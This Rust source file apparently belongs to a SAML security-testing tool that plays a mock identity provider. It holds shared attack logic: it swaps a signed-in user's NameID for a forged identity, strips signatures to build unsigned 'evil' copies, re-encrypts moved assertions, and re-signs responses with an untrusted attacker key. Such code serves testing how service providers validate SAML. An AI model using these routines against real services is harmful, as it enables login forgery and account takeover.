//! What the signing and attack layers share for one response: the signing plan, the
//! identities, and the plaintext of every assertion this forge encrypted (attacks that move
//! an encrypted assertion work on its plaintext and encrypt the result again).

use super::dom::{self, Document, Element, Node};
use super::dsig::{SignOptions, is_signature, sign_in_place};
use crate::error::{Error, Result};
use crate::keys::SigningKey;
use crate::saml::encrypt::{self, Wrapper};
use crate::saml::issue::IdpView;
use crate::saml::response::Encryption;
use crate::saml::xml::{NS_SAML, NS_XENC};
use crate::tenant::random_id;
use proto::forge::{
    DigestAlgorithm, KeyInfoChoice, SignChoice, SignatureAlgorithm, SigningKeyChoice,
};
use std::collections::HashMap;
use std::sync::Arc;

/// Signing decisions, made once per response.
#[derive(Debug, Clone)]
pub struct Plan {
    pub sign: SignChoice,
    pub key: Arc<SigningKey>,
    pub signing_key: SigningKeyChoice,
    pub signature: SignatureAlgorithm,
    pub digest: DigestAlgorithm,
    pub key_info: KeyInfoChoice,
    pub encryption: Option<Encryption>,
    /// NameID -> EncryptedID and/or Attribute -> EncryptedAttribute before signing.
    pub identifiers: Option<Identifiers>,
}

/// Which identifiers are encrypted, and to whom.
#[derive(Debug, Clone)]
pub struct Identifiers {
    pub name_id: bool,
    pub attributes: bool,
    pub to: Encryption,
}

/// What the attacks work with.
pub struct Ctx<'a> {
    pub plan: Plan,
    pub idp: &'a IdpView,
    pub forged: Option<String>,
    /// The signed-in user's NameID (else email): what evil copies replace.
    pub genuine: String,
    pub canary: Option<String>,
    /// EncryptedData Id -> the plaintext assertion inside it.
    pub plain: HashMap<String, Element>,
}

impl Ctx<'_> {
    pub fn encrypted(&self) -> bool {
        self.plan.encryption.is_some()
    }

    pub fn forged(&self) -> Result<&str> {
        self.forged
            .as_deref()
            .ok_or_else(|| Error::BadRequest("this attack needs forged_identity".into()))
    }

    pub fn canary(&self) -> Result<&str> {
        self.canary
            .as_deref()
            .ok_or_else(|| Error::BadRequest("this attack needs canary_url".into()))
    }

    /// Every NameID below `el`, and every attribute value equal to the genuine identity, now
    /// says the forged identity.
    pub fn forge_identity(&self, el: &mut Element) -> Result<()> {
        let forged = self.forged()?.to_string();
        let genuine = self.genuine.clone();
        el.walk_mut(&mut |e: &mut Element| {
            if e.is(NS_SAML, "NameID")
                || (e.is(NS_SAML, "AttributeValue") && e.text().eq_ignore_ascii_case(&genuine))
            {
                e.set_text(&forged);
            }
        });
        Ok(())
    }

    /// An unsigned copy of `el` that names the forged identity, with a new ID when given;
    /// encrypted assertions inside are replaced by encrypted evil ones.
    pub fn evil(&mut self, el: &Element, id: Option<&str>) -> Result<Element> {
        let mut copy = el.clone();
        copy.remove_all(&is_signature);
        if let Some(id) = id
            && copy.attr("ID").is_some()
        {
            copy.set_attr("ID", id);
        }
        self.forge_identity(&mut copy)?;
        self.evil_encrypted(&mut copy)?;
        Ok(copy)
    }

    fn evil_encrypted(&mut self, el: &mut Element) -> Result<()> {
        for i in 0..el.children.len() {
            let plain = match &el.children[i] {
                Node::Element(e) if e.is(NS_SAML, "EncryptedAssertion") => {
                    self.plain_of(e).cloned()
                }
                _ => None,
            };
            match plain {
                Some(p) => {
                    let evil = self.evil(&p, Some(&random_id("_evil")))?;
                    el.children[i] = Node::Element(self.encrypt(&evil)?);
                }
                None => {
                    if let Some(e) = el.element_at_mut(i) {
                        self.evil_encrypted(e)?;
                    }
                }
            }
        }
        Ok(())
    }

    pub fn plain_of(&self, encrypted: &Element) -> Option<&Element> {
        let id = encrypted
            .find(&|e| e.is(NS_XENC, "EncryptedData"))?
            .attr("Id")?;
        self.plain.get(id)
    }

    /// The first assertion of `root`, decrypted when it is encrypted.
    pub fn plain_assertion(&self, root: &Element) -> Option<Element> {
        root.elements().find_map(|e| {
            if e.is(NS_SAML, "Assertion") {
                Some(e.clone())
            } else if e.is(NS_SAML, "EncryptedAssertion") {
                self.plain_of(e).cloned()
            } else {
                None
            }
        })
    }

    pub fn encrypt(&mut self, el: &Element) -> Result<Element> {
        let e = self
            .plan
            .encryption
            .as_ref()
            .ok_or_else(|| Error::Xml("no encryption configured".into()))?;
        let text = dom::write_element(el);
        let bytes = encrypt::encrypted_element(
            Wrapper::Assertion,
            text.as_bytes(),
            e.cipher,
            e.transport,
            &e.recipient_cert,
        )?;
        let doc = dom::parse(&String::from_utf8_lossy(&bytes))?;
        let enc = doc
            .root()
            .cloned()
            .ok_or_else(|| Error::Xml("encryption wrote no element".into()))?;
        if let Some(id) = enc
            .find(&|x| x.is(NS_XENC, "EncryptedData"))
            .and_then(|x| x.attr("Id"))
        {
            self.plain.insert(id.to_string(), el.clone());
        }
        Ok(enc)
    }

    /// Encrypts every assertion that is not inside another one (the top level of a
    /// document is left alone: `two_roots` keeps its genuine assertion readable).
    pub fn encrypt_outermost(&mut self, doc: &mut Document) -> Result<()> {
        if !self.encrypted() {
            return Ok(());
        }
        for node in &mut doc.nodes {
            if let Node::Element(e) = node {
                self.encrypt_below(e)?;
            }
        }
        Ok(())
    }

    fn encrypt_below(&mut self, el: &mut Element) -> Result<()> {
        for i in 0..el.children.len() {
            let assertion = match &el.children[i] {
                Node::Element(e) if e.is(NS_SAML, "Assertion") => Some(e.clone()),
                _ => None,
            };
            match assertion {
                Some(a) => el.children[i] = Node::Element(self.encrypt(&a)?),
                None => {
                    if let Some(e) = el.element_at_mut(i) {
                        self.encrypt_below(e)?;
                    }
                }
            }
        }
        Ok(())
    }

    /// Replaces every EncryptedAssertion this forge made by its plaintext.
    pub fn decrypt_view(&self, doc: &mut Document) {
        for node in &mut doc.nodes {
            if let Node::Element(e) = node {
                self.decrypt_below(e);
            }
        }
    }

    fn decrypt_below(&self, el: &mut Element) {
        for child in el.children.iter_mut() {
            let plain = match child {
                Node::Element(e) if e.is(NS_SAML, "EncryptedAssertion") => {
                    self.plain_of(e).cloned()
                }
                _ => None,
            };
            match (plain, child) {
                (Some(p), child) => *child = Node::Element(p),
                (None, Node::Element(e)) => self.decrypt_below(e),
                _ => {}
            }
        }
    }

    /// Signs the assertion, encrypts it, signs the Response: the order an IdP uses.
    pub fn sign_and_encrypt(&mut self, doc: &mut Document, plan: &Plan) -> Result<()> {
        if let Some(e) = &plan.identifiers {
            encrypt_identifiers(doc.root_or_err()?, e)?;
        }
        let opts = SignOptions {
            key: &plan.key,
            signature: plan.signature,
            digest: plan.digest,
            key_info: plan.key_info,
        };
        if plan.sign.assertion() {
            let root = doc.root_or_err()?;
            let is_assertion = |e: &Element| e.local == "Assertion";
            // The response itself is never "the assertion"; a status-only response has none
            // and, as on the genuine path, nothing is signed there.
            if let Some(a) = root.elements_mut().find_map(|c| c.find_mut(&is_assertion)) {
                sign_in_place(a, &opts)?;
            }
        }
        self.encrypt_outermost(doc)?;
        if plan.sign.response() {
            sign_in_place(doc.root_or_err()?, &opts)?;
        }
        Ok(())
    }

    /// Signs `el` in place with the attacker's key (the tenant's "unknown" key), its own
    /// certificate in KeyInfo, with this response's algorithms.
    pub fn sign_as_attacker(&self, el: &mut Element) -> Result<()> {
        let key = self.idp.keys.unknown()?;
        sign_in_place(
            el,
            &SignOptions {
                key: &key,
                signature: self.plan.signature,
                digest: self.plan.digest,
                key_info: KeyInfoChoice::X509,
            },
        )
    }

    /// `attacker_key_value`: the forged identity everywhere, every signature redone with the
    /// attacker's key, shipped as RSAKeyValue.
    pub fn resign_as_attacker(&mut self, doc: &mut Document) -> Result<()> {
        self.decrypt_view(doc);
        let root = doc.root_or_err()?;
        root.remove_all(&is_signature);
        self.forge_identity(root)?;
        let mut plan = self.plan.clone();
        plan.key = self.idp.keys.unknown()?;
        plan.signing_key = SigningKeyChoice::Attacker;
        plan.key_info = KeyInfoChoice::RsaKeyValue;
        self.sign_and_encrypt(doc, &plan)
    }
}

/// Replaces every NameID under a Subject with an `EncryptedID` and/or every Attribute with
/// an `EncryptedAttribute` (SAML core 2.2.4, 2.7.3.2), before anything is signed: the
/// signature covers the encrypted forms, as an IdP that encrypts identifiers produces them.
fn encrypt_identifiers(root: &mut Element, ids: &Identifiers) -> Result<()> {
    let e = &ids.to;
    let mut failed = None;
    root.walk_mut(&mut |el: &mut Element| {
        let subject = ids.name_id && el.is(NS_SAML, "Subject");
        let statement = ids.attributes && el.is(NS_SAML, "AttributeStatement");
        if !(subject || statement) || failed.is_some() {
            return;
        }
        for node in el.children.iter_mut() {
            let Node::Element(child) = node else { continue };
            let wrapper = if subject && child.is(NS_SAML, "NameID") {
                Wrapper::NameId
            } else if statement && child.is(NS_SAML, "Attribute") {
                Wrapper::Attribute
            } else {
                continue;
            };
            match encrypted_node(child, wrapper, e) {
                Ok(enc) => *child = enc,
                Err(err) => {
                    failed = Some(err);
                    return;
                }
            }
        }
    });
    failed.map_or(Ok(()), Err)
}

fn encrypted_node(plain: &Element, wrapper: Wrapper, e: &Encryption) -> Result<Element> {
    let text = dom::write_element(plain);
    let bytes = encrypt::encrypted_element(
        wrapper,
        text.as_bytes(),
        e.cipher,
        e.transport,
        &e.recipient_cert,
    )?;
    dom::parse(&String::from_utf8_lossy(&bytes))?
        .root()
        .cloned()
        .ok_or_else(|| Error::Xml("encryption wrote no element".into()))
}
